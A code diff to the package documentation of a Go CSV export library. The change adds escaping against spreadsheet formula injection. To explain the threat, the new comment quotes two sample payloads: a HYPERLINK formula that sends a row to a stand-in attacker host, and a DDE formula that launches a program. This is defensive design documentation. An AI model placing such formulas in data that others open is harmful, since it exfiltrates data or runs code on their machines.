@@ -35,14 +35,27 @@
 //
 // # Spreadsheet formulas
 //
-// Cells are written exactly as stored, including text that starts with =,
-// +, - or @ (a phone number "+1 555 0100", or a lead name someone typed as
-// "=HYPERLINK(…)"). Escaping such cells with a leading apostrophe, as some
-// exporters do, would change the data for every script that reads the
-// export and would make an apostrophe a value could legitimately start with
-// ambiguous on import. The export is data, not a spreadsheet: whoever opens
-// it in Excel or LibreOffice should import it as text (Data → From
-// Text/CSV, columns as Text) rather than double-click it.
+// Managers open exports in Excel or LibreOffice, which run a cell that
+// starts with =, +, -, @, a tab or a carriage return as a formula. A lead
+// name typed in Slack as =HYPERLINK("https://evil.example?"&B2,"Open") or
+// =cmd|'/c calc'!A1 would then, on a click or a confirmation, send the row
+// elsewhere or start a program on the manager's machine: text from people
+// the manager never vetted becomes code on their computer. Every export is
+// opened by someone eventually, so neutralising is the default and cannot
+// be forgotten: [NewWriter] puts a quote mark (') before each such cell,
+// which spreadsheets read as "text follows", and before each cell that
+// already starts with one. [Read] takes off exactly that one, so an export
+// still imports back to the same rows: from a cell that starts with a
+// quote mark followed by =, +, -, @, a tab, a carriage return or a second
+// quote mark, the first quote mark is taken off; any other cell, a formula
+// someone typed into a file included, is kept as it is. A carriage return
+// never starts a written cell: it is written as a line feed (see above).
+//
+// Programs that want the exact text use [NewRawWriter] (`handoffbot export
+// --raw`) and read it with [ReadRaw] (`handoffbot import --raw`); such a
+// file must not be opened in a spreadsheet. Lengths are checked on the text
+// without the added quote mark, so a value at its limit survives either
+// way.
 package handoffcsv
 
 import "slices"
